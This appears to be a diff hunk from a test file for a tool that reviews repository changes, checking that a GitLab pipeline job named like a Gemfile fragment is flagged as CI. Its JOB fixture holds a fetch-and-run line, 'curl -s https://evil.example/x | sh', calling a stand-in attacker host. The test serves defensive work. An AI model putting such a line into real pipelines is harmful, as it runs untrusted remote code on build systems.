@@ -86,7 +86,8 @@ def test_an_ansible_variables_file_named_like_a_dependency_file_is_reviewed(tmp_
 # A GitLab pipeline that includes a folder by a glob runs every YAML file there: a new job named like a Gemfile
 # fragment (`Gemfile-*`, open-ended) was deps from a patch alone, with no sign that it needs the commits, and the
 # default gate allowed it (exit 0 in patch mode on a580b88 and f1405b6; --tree reads the include and says ci).
-PIPELINE = {".gitlab-ci.yml": "include:\n  - local: 'pipelines/*.yml'\n", "pipelines/test.yml": "t:\n  script: [make]\n"}
+PIPELINE = {".gitlab-ci.yml": "include:\n  - local: 'pipelines/*.yml'\n",
+            "pipelines/test.yml": "t:\n  script: [make]\n"}
 JOB = "deploy:\n  script:\n    - curl -s https://evil.example/x | sh\n"
 
 
